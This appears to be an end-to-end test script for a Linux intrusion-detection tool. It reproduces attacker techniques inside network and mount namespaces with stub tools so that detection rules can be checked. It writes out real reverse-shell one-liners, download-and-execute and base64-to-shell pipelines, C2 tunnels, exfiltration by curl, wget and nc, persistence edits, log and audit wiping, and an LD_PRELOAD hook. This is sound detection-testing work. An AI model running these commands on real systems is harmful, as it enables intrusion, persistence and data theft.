#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Issue 17's techniques, done for real in forms that cannot harm the host
# (vigil_e2e_test runs this under `vigil run` and asserts the alerts):
# - files go to the scratch dir DIR, or to tmpfs mounts over the real
#   directories in a private mount namespace (they vanish with it);
# - network actions run in a fresh network namespace with only loopback up,
#   against a listener that accepts and closes at once: no packet leaves;
# - sysctls are opened for writing and closed unwritten;
# - tools this host may lack or that would change the host (crontab,
#   socat, auditctl, systemctl stop, insmod) are copies of /bin/true under the
#   tool's name in DIR: the command line is what the rules read.
# Every command line carries TAG so the test finds its alerts.
# Usage: technique_actions.sh DIR TAG
set -u
what=technique
. "$(dirname "$0")/actions_lib.sh"
fake() { cp /bin/true "$d/$1"; }

say "download or decode piped into a shell"
run sh -c "curl -fsS --max-time 2 http://127.0.0.1:9/e2e-$t.sh | sh"
run sh -c "wget -q -T 2 -O- http://127.0.0.1:9/e2e-$t.sh | bash"
run sh -c ": e2e-$t; echo dHJ1ZQo= | base64 -d | sh"

say "the same typed at a prompt: the two ends are siblings under one shell (a script file, so no"
say "command line shows the pipe), seen through the pipe between them"
# The payload is padded past a pipe's 64 KiB buffer so the writer is still
# alive (blocked on the full pipe) when the shell execs: the peer fields need
# both ends live, and a tiny file can be written and closed before the shell's
# exec is seen (docs/detections.md, "not covered").
{ printf 'echo e2e-%s\n' "$t"; i=0; while [ $i -lt 1200 ]; do
    echo "# padding line $i ................................................"; i=$((i + 1)); done; } > "payload-$t.sh"
base64 "payload-$t.sh" > "payload-$t.b64"
printf 'curl -fsS --max-time 2 file://%s/payload-%s.sh | bash\n' "$d" "$t" > "prompt-dl-$t.sh"
printf 'base64 -d %s/payload-%s.b64 | sh\n' "$d" "$t" > "prompt-b64-$t.sh"
# benign pipelines that must stay quiet: a local file paged, a download filtered
printf 'cat %s/payload-%s.sh | tail -n1\ncurl -fsS --max-time 2 file://%s/payload-%s.sh | grep -c e2e\n' \
  "$d" "$t" "$d" "$t" > "prompt-benign-$t.sh"
run bash "$d/prompt-dl-$t.sh"
run bash "$d/prompt-b64-$t.sh"
run bash "$d/prompt-benign-$t.sh"

say "interactive shells from interpreters"
run "$py" -c "import os; os.execv('/bin/sh', ['sh'])  # e2e-$t"
run perl -e "exec '/bin/sh'; # e2e-$t"
run awk "BEGIN { system(\"/bin/sh\") } # e2e-$t"
# script(1) runs the command through $SHELL -c: bash execs a lone command in
# place (the shell's parent is script), dash forks it (parent sh); CI's
# environment may have no SHELL (then /bin/sh). Pin it so the alert's parent
# is script wherever this runs; the sh -c form is an inline rule test.
run env SHELL=/bin/bash script -qc /bin/sh /dev/null

say "reverse shells in a private network namespace (loopback only)"
cat > listener.py <<'EOF'
import socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 4444))
s.listen(8)
s.settimeout(15)
open(sys.argv[1], "w").close()
for _ in range(int(sys.argv[2])):
    c, _ = s.accept()
    c.close()
EOF
cat > rshells.sh <<EOF
ip link set lo up
$py listener.py ready 4 & l=\$!
while [ ! -e ready ]; do sleep 0.05; done
bash -c "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 # e2e-$t"
busybox nc 127.0.0.1 4444 -e /bin/sh
$py -c "import socket,os; s=socket.socket(); s.connect(('127.0.0.1',4444)); os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.execv('/bin/sh',['sh'])  # e2e-$t"
sh -c "rm -f f-$t; mkfifo f-$t; cat f-$t | /bin/sh -i 2>&1 | busybox nc 127.0.0.1 4444 > f-$t"
wait \$l
EOF
run unshare -n sh rshells.sh
fake socat
run "$d/socat" "tcp-connect:127.0.0.1:4444" "exec:/bin/sh,pty,stderr # e2e-$t"

say "command and control in an empty network namespace (connects fail: no route)"
run unshare -n bash -c "echo > /dev/tcp/192.0.2.7/4444 # e2e-$t"
run unshare -n "$py" -c "import socket; socket.socket().connect(('192.0.2.7', 4444))  # e2e-$t"
fake chisel
run "$d/chisel" client 192.0.2.7:8000 R:socks "e2e-$t"
run unshare -n ssh -o BatchMode=yes -o ConnectTimeout=1 -N -R 2222:localhost:22 "e2e-$t@192.0.2.7"

say "persistence in a private mount namespace"
fake crontab
run "$d/crontab" "$d/e2e-$t.cron"
printf '[Service]\nExecStart=/bin/true\n' > "e2e-$t.service"
# systemctl link for real, on a root tree in DIR (--root: no systemd, no host unit).
mkdir -p sysroot/etc/systemd/system sysroot/opt
cp "e2e-$t.service" sysroot/opt/
run systemctl --root="$d/sysroot" link "/opt/e2e-$t.service"
# A directory the host lacks is not created (that would change the host): its action is skipped.
cat > persist.sh <<EOF
mount --make-rprivate / || exit 1
priv() { [ -d "\$1" ] && mount -t tmpfs e2e "\$1" || { echo "technique: no \$1, skipped"; return 1; }; }
if priv /etc/systemd/system; then ln -s "$d/e2e-$t.service" /etc/systemd/system/e2e-$t.service; fi
if priv /root; then
  echo "true # e2e-$t" >> /root/.bashrc
  echo "ls # e2e-$t" > /root/.bash_history
  truncate -s0 /root/.bash_history
  ln -sf /dev/null /root/.bash_history
fi
if priv /etc/pam.d; then echo "auth optional pam_e2e_$t.so" > /etc/pam.d/e2e-$t; fi
if priv /usr/local/share/ca-certificates; then
  printf -- '-----BEGIN CERTIFICATE-----\\ne2e-$t\\n-----END CERTIFICATE-----\\n' > /usr/local/share/ca-certificates/e2e-$t.crt
fi
if priv /var/log; then echo line > /var/log/e2e-$t.log; truncate -s0 /var/log/e2e-$t.log; fi
if priv /var/mail; then echo mail > /var/mail/e2e-$t; truncate -s0 /var/mail/e2e-$t; fi
EOF
run unshare -m sh persist.sh

say "evasion"
: > "sgid-$t"
chmod 2755 "sgid-$t"
echo "secret e2e-$t" > "shred-$t.log"
run shred -u "shred-$t.log"
run "$py" -c "import os; os.close(os.open('/proc/sys/kernel/randomize_va_space', os.O_WRONLY))  # e2e-$t"
run setarch "$(uname -m)" -R /bin/echo "e2e-$t"
run unshare -n iptables -F
run unshare -n nft flush ruleset
fake auditctl
run "$d/auditctl" -D
fake systemctl
run "$d/systemctl" stop auditd "e2e-$t"
fake insmod
printf 'not a module e2e-%s\n' "$t" > "e2e-$t.ko"
run "$d/insmod" "$d/e2e-$t.ko"
run "$py" -c "open('$d/e2e-$t.ko', 'rb').read()"

say "dynamic linker hijack: a real shared object preloaded from DIR (under /tmp)"
cat > "hook-$t.c" <<'EOF'
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>
/* Runs in every program the linker loads it into: leaves a mark so the
 * script can tell the preload took effect. */
__attribute__((constructor)) static void e2e_hook(void) {
  const char *m = getenv("E2E_HOOK_MARK");
  if (m) close(open(m, O_WRONLY | O_CREAT, 0600));
}
EOF
if cc -shared -fPIC -o "$d/libhook-$t.so" "hook-$t.c"; then
  run env E2E_HOOK_MARK="$d/hooked-$t" LD_PRELOAD="$d/libhook-$t.so" /bin/echo "e2e-$t"
  if [ -e "$d/hooked-$t" ]; then say "preloaded library ran"; else say "preloaded library did NOT run"; fi
else
  say "cc failed: no preload step"
fi

# Each burst runs in a session of its own (setsid): Discovery Burst counts
# per session, and this test's own session runs other commands.
say "discovery burst: one script, eleven discovery commands"
cat > "discover-$t.sh" <<'EOF'
uname -a
id
whoami
hostname
cat /etc/passwd
ps aux
ip a
getent group root
groups
uptime
w
EOF
run setsid sh "$d/discover-$t.sh"

# Issue 17: an ATT&CK-style harness runs each command through its own shell,
# so every command has another parent (the `:` after the command keeps dash
# from exec'ing it in place: the shell forks it and stays its parent).
say "discovery burst: a harness runs seven commands, each through its own sh -c"
cat > "harness-$t.sh" <<EOF
for c in 'uname -a' id whoami hostname 'cat /etc/passwd' 'ps aux' uptime; do
  sh -c "\$c; : e2e-$t-shc"
done
EOF
run setsid sh "$d/harness-$t.sh"

say "exfiltration: curl -T and wget --post-file to a listener in a private netns"
echo "e2e-$t secret" > "exfil-$t.txt"
cat > exfil-listener.py <<'EOF'
import socket
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("192.0.2.10", 8080))
s.listen(4)
s.settimeout(15)
open("ready-exfil", "w").close()
for _ in range(2):
    c, _ = s.accept()
    c.close()
EOF
cat > exfil.sh <<EOF
ip link set lo up
ip addr add 192.0.2.10/32 dev lo
$py exfil-listener.py & l=\$!
while [ ! -e ready-exfil ]; do sleep 0.05; done
curl -s --max-time 3 -T $d/exfil-$t.txt http://192.0.2.10:8080/
wget -q -T 3 -t 1 -O /dev/null --post-file=$d/exfil-$t.txt http://192.0.2.10:8080/
wait \$l
EOF
run unshare -n sh exfil.sh

say "exfiltration over a network relay (T1048.003): nc < FILE and cat FILE | nc to a listener on"
say "loopback in a private netns (nc is busybox's applet under the name nc: comm is nc)"
cp /bin/busybox "$d/nc"
cat > relay-listener.py <<'EOF'
import socket
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 4445))
s.listen(4)
s.settimeout(15)
open("ready-relay", "w").close()
for _ in range(2):
    c, _ = s.accept()
    c.settimeout(5)
    try:
        while c.recv(4096):
            pass
    except OSError:
        pass
    c.close()
EOF
printf 'cat %s/exfil-%s.txt | %s/nc -w 3 127.0.0.1 4445\n' "$d" "$t" "$d" > "relay-pipe-$t.sh"
cat > relay.sh <<EOF
ip link set lo up
$py relay-listener.py & l=\$!
while [ ! -e ready-relay ]; do sleep 0.05; done
$d/nc -w 3 127.0.0.1 4445 < $d/exfil-$t.txt
sh $d/relay-pipe-$t.sh
wait \$l
EOF
run unshare -n sh relay.sh

say "process hidden by a bind mount over /proc/<pid> (private mount namespace)"
mkdir -p "hide-$t"
cat > hide.sh <<EOF
mount --make-rprivate / || exit 1
sleep 30 & v=\$!
mount --bind $d/hide-$t /proc/\$v
umount /proc/\$v
kill \$v
EOF
run unshare -m sh hide.sh

say "atime-only timestomp"
: > "atime-$t"
run touch -a -d 2019-01-01 "$d/atime-$t"

say "process memory of another process"
sleep 30 &
victim=$!
run "$py" -c "open('/proc/$victim/maps').read(); open('/proc/$victim/mem', 'rb').close()  # e2e-$t"
if command -v gcore >/dev/null; then
  run gcore -o "$d/core-$t" "$victim"
  rm -f "$d/core-$t".*
else
  say "gcore skipped: not installed"
fi
kill "$victim"
wait "$victim" 2>/dev/null
exit 0
